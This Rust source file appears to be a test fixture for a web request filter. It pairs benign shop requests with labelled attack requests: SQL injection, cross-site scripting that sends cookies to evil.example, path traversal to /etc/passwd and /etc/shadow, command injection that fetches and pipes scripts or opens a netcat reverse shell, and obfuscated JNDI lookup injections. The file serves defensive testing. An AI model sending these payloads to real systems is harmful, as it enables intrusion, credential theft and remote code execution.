//! What honest people and attackers send in the demo and in the tests of the whole road.

use crate::http::{get, post};

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// Requests of honest customers of the shop, some of them with what careless rules stumble over.
pub fn honest(host: &str) -> Vec<Vec<u8>> {
    let mut requests: Vec<Vec<u8>> = [
        "/",
        "/products/42",
        "/products/42?ref=newsletter&utm_source=mail&utm_campaign=autumn-2026",
        "/search?q=men%27s+shoes+%26+socks",
        "/search?q=O%27Reilly+select+or+union+jack+flag",
        "/search?q=1+%2B+1+%3D+2",
        "/search?q=drop+earrings+for+the+table",
        "/search?q=%22exact+phrase%22+-excluded",
        "/search?q=script+font+%3C+20+EUR",
        "/static/app.3f9c2a.js?v=1.2.3",
        "/static/img/../img/logo.png",
        "/account/orders?from=2026-01-01&to=2026-12-31&sort=-date",
        "/redirect?to=https%3A%2F%2Fexample.org%2Fwelcome%3Fa%3D1%26b%3D2",
        "/api/products?filter%5Bcolor%5D=red&page%5Bsize%5D=20",
        "/blog/how-to-cat-a-file-and-other-linux-tips",
    ]
    .into_iter()
    .map(|target| get(host, target))
    .collect();
    requests.push(post(host, "/login", FORM, "user=anna%40example.org&password=S%23cret-%272026%27%21"));
    requests.push(post(
        host,
        "/contact",
        FORM,
        "text=Hello%2C+please+update+my+address+where+possible%3B+thanks--Anna",
    ));
    requests.push(post(
        host,
        "/api/cart",
        JSON,
        r#"{"items":[{"id":42,"qty":2,"note":"it's a gift <3"}],"coupon":null}"#,
    ));
    requests.push(post(
        host,
        "/api/reviews",
        JSON,
        r#"{"stars":5,"text":"I'd select this over any other; 1 = best. Union of style & price! love it"}"#,
    ));
    requests
}

/// One attack: what it is, and the request.
pub struct Attack {
    /// The kind, for people.
    pub kind: &'static str,
    /// The request.
    pub request: Vec<u8>,
}

/// The demo's own list of attacks: in the path, the query, headers, forms and JSON, plain and disguised.
pub fn attacks(host: &str) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (kind, targets) in [
        (
            "SQL injection",
            &[
                "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
                "/products?id=1%27%20OR%20%271%27=%271%27%20--%20",
                "/products?id=1%2527%2520UNION%2520SELECT%2520null,version()--",
                "/products?id=1;DROP%20TABLE%20orders--",
                "/products?id=1/**/UNION/**/ALL/**/SELECT/**/1,2,3",
                "/products?id=1%27%20AND%20SLEEP(5)--%20",
                "/products?id=-1%20union%20select%20load_file(0x2f6574632f706173737764)",
                "/products?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--",
            ][..],
        ),
        (
            "cross-site scripting",
            &[
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
                "/search?q=%22%3E%3Csvg/onload=fetch(%27//evil.example/%27%2Bdocument.cookie)%3E",
                "/search?q=%253Cscript%253Ealert(1)%253C/script%253E",
                "/search?q=%3Ciframe%20src=%22javascript:alert(1)%22%3E",
                "/search?q=%3Cbody%20onload=alert(1)%3E",
            ][..],
        ),
        (
            "path traversal",
            &[
                "/download?file=../../../../etc/passwd",
                "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
                "/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow",
                "/download?file=....//....//....//etc/passwd",
                "/download?file=/proc/self/environ",
                "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
                "/download?file=..\\..\\..\\windows\\win.ini",
            ][..],
        ),
        (
            "command injection",
            &[
                "/ping?host=127.0.0.1;cat%20/etc/passwd",
                "/ping?host=127.0.0.1%7Ccat%20/etc/passwd",
                "/ping?host=$(curl%20http://evil.example/x.sh%7Csh)",
                "/ping?host=%60wget%20http://evil.example/x%60",
                "/ping?host=127.0.0.1%26%26nc%20-e%20/bin/sh%20203.0.113.9%204444",
                "/ping?host=;c%27%27at%20/etc/pas%27%27swd",
            ][..],
        ),
        (
            "lookup injection",
            &[
                "/search?q=$%7Bjndi:ldap://evil.example/a%7D",
                "/search?q=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://evil.example/a%7D",
            ][..],
        ),
    ] {
        attacks.extend(targets.iter().map(|target| Attack { kind, request: get(host, target) }));
    }
    let mut add = |kind, request| attacks.push(Attack { kind, request });
    add("SQL injection", post(host, "/login", FORM, "user=admin%27--&password=x%27+OR+%271%27%3D%271"));
    add(
        "SQL injection",
        post(host, "/api/cart", JSON, r#"{"coupon":"x' UNION SELECT card,cvv FROM payments-- "}"#),
    );
    add(
        "cross-site scripting",
        post(host, "/contact", FORM, "text=%3Cscript%3Enew+Image().src%3D%27//evil.example/%27%3C/script%3E"),
    );
    add(
        "cross-site scripting",
        post(host, "/api/reviews", JSON, r#"{"text":"\u003cimg src=x onerror=alert(1)\u003e"}"#),
    );
    add("command injection", post(host, "/api/ping", JSON, r#"{"host":"8.8.8.8; cat /etc/shadow"}"#));
    add(
        "lookup injection",
        format!("GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: ${{jndi:ldap://evil.example/x}}\r\n\r\n")
            .into_bytes(),
    );
    add(
        "lookup injection",
        format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Api-Version: ${{${{::-j}}${{::-n}}di:dns://evil.example}}\r\n\r\n").into_bytes(),
    );
    add(
        "SQL injection",
        format!(
            "GET / HTTP/1.1\r\nHost: {host}\r\nCookie: session=1' UNION SELECT pass FROM users-- \r\n\r\n"
        )
        .into_bytes(),
    );
    attacks
}
